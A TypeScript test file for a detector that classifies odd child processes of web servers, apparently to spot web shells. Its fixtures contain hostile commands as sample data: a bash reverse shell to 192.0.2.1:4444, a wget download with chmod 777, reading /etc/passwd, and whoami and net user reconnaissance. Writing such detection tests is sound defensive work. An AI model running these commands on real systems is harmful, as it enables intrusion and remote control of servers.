import assert from 'node:assert/strict';
import { test } from 'node:test';
import { innerOf, isScript, isServer, oddStarts } from '../../../src/correlate/process/servers.ts';

const kinds = (image: string, command: string): string[] => oddStarts(image, command).map(({ kind }) => kind);
const DASH = '/usr/bin/dash';

test('servers are known whatever their version is', () => {
  const servers = [
    '/usr/sbin/apache2',
    '/usr/sbin/php-fpm8.2',
    'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
    'C:\\Tomcat\\bin\\Tomcat9.exe',
  ];
  assert.deepEqual(servers.map(isServer), [true, true, true, true]);
  assert.deepEqual(['/usr/sbin/sshd', '/usr/sbin/cron', DASH].map(isServer), [false, false, false]);
});

test('what servers hardly ever start, within the shell that starts it', () => {
  assert.deepEqual(kinds(DASH, 'sh -c whoami'), ['looks']);
  assert.deepEqual(kinds('C:\\Windows\\System32\\cmd.exe', '"cmd.exe" /c net user'), ['looks']);
  assert.deepEqual(kinds(DASH, 'sh -c cat /etc/passwd'), ['looks']);
  assert.deepEqual(kinds(DASH, "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'"), ['handsOut']);
  assert.deepEqual(kinds(DASH, 'sh -c cd /tmp; wget http://192.0.2.1/x; chmod 777 x').sort(), ['fetches', 'lists']);
  assert.deepEqual(kinds('/tmp/x', './x'), ['runs']);
  assert.deepEqual(kinds(DASH, ''), ['shell']);
});

test('what sites start to do their work is not odd', () => {
  for (const command of [
    'sh -c convert in.png -resize 200 out.jpg',
    'sh -c /usr/sbin/sendmail -t -i',
    'sh -c mysqldump --all-databases | gzip > /backup/db.gz',
    'tar czf /backup/site.tgz /var/www',
    'git rev-parse HEAD',
  ])
    assert.deepEqual(kinds(DASH, command), [], command);
});

test('a page of the site, and what a shell was given', () => {
  assert.equal(isScript('/bin/sh /usr/lib/cgi-bin/status.cgi'), true);
  assert.equal(isScript('sh -c id'), false);
  assert.equal(isScript('/bin/bash -i'), false);
  assert.equal(innerOf("sh -c 'uname -a'"), 'uname -a');
  assert.equal(innerOf('"cmd.exe" /c whoami'), 'whoami');
  assert.equal(innerOf('tar czf a b'), 'tar czf a b');
});
